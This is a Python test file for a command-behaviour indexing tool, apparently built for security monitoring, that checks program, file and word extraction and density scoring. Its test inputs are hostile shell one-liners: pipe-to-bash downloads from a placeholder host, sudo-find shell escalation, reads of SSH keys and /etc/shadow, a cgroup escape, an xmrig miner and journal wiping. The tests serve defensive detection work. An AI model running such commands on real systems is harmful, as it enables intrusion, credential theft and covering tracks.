"""The indexing text of a behaviour (streams/describe.py) and the manual's descriptions it
reads (ruleless/man_descriptions.py, data generated from Debian's man-db)."""

from __future__ import annotations

from ruleless import man_descriptions
from streams.describe import descriptions, files, indexing_text, programs, split_words


def test_the_data_file_is_there_and_small() -> None:
    assert man_descriptions.DATA.exists() and man_descriptions.DATA.stat().st_size < 512 * 1024
    assert man_descriptions.program("nsenter") == "run program in different namespaces"
    assert man_descriptions.program("curl") == "transfer a URL"
    assert man_descriptions.file("shadow") == "shadowed password file"
    assert man_descriptions.program("no-such-program") is None


def test_programs_in_command_position_paths_and_after_runners() -> None:
    assert programs("sh -c curl -fsSL http://x/i.sh | bash") == ["sh", "curl", "bash"]
    assert programs("sh -c cd /tmp && wget -q http://x/k && chmod +x k && ./k &")[:3] == ["sh", "wget", "chmod"]
    # sudo's own description says it executes a command: the program after it counts
    assert programs("sudo find . -exec /bin/sh ; -quit") == ["sudo", "find", "sh"]
    assert programs("X=1 nohup ./run.sh") == ["nohup"]
    # arguments are not programs
    assert "id" not in programs("cat /root/.ssh/id_rsa") and "time" not in programs("journalctl --vacuum-time=1s")


def test_files_the_manual_describes() -> None:
    assert files("sh -c unshadow /etc/passwd /etc/shadow > /tmp/h") == ["passwd", "shadow"]
    assert "shadow: shadowed password file" in descriptions("cat /etc/shadow")


def test_words_split_paths_options_and_identifiers() -> None:
    assert split_words("echo 1 > /tmp/cgrp/x/notify_on_release") == ["echo", "tmp", "cgrp", "notify", "on", "release"]
    assert split_words("perl -MLWP::Simple -e getStore") == ["perl", "mlwp", "simple", "get", "store"]
    # random keys are not words
    assert "af" not in split_words("xmrig -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7")
    assert indexing_text("curl http://x").startswith("curl: transfer a URL. curl http")


def _bag_of_words(texts):  # type: ignore[no-untyped-def]
    """A stand-in embedder (no model): hashed words, unit rows."""
    import zlib

    import numpy as np

    from ruleless.embedding import DIM

    out = np.zeros((len(texts), DIM), np.float32)
    for i, t in enumerate(texts):
        for w in t.lower().replace("/", " ").replace(".", " ").split():
            out[i, zlib.crc32(w.encode()) % DIM] += 1.0
    return out / np.maximum(np.linalg.norm(out, axis=1, keepdims=True), 1e-9)


def test_a_crowded_behaviour_is_denser_than_a_lone_one(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from streams.behaviours import VECTOR_DIM, BehaviourIndex, BehaviourRow

    index = BehaviourIndex(str(tmp_path), embedder=_bag_of_words)
    crowd = [f"/bin/bash /srv/ops/cron.daily/job{i}" for i in range(12)]
    index.add(BehaviourRow("o", "w", f"c{i}", c, "bash", 1, 0.0, 0.0, 0.0) for i, c in enumerate(crowd))
    # (indexed later, one by one: density is measured against what is stored)
    index.add([BehaviourRow("o", "w", "lone", "crontab -u www-data /tmp/cron.txt", "crontab", 1, 0.0, 0.0, 0.0)])
    index.add([BehaviourRow("o", "w", "c99", "/bin/bash /srv/ops/cron.daily/job99", "bash", 1, 0.0, 0.0, 0.0)])
    index.add([BehaviourRow("other", "w", "x", "/bin/bash /srv/ops/cron.daily/job0", "bash", 1, 0.0, 0.0, 0.0)])
    rows = {r["behaviour_id"]: r for r in index._open().search().limit(100).to_list()}
    assert len(rows["c0"]["vector"]) == VECTOR_DIM
    assert rows["lone"]["density"] < rows["c0"]["density"] and rows["lone"]["density"] < rows["c99"]["density"]
    # another org's behaviours are not neighbours
    assert rows["x"]["density"] == 0.0
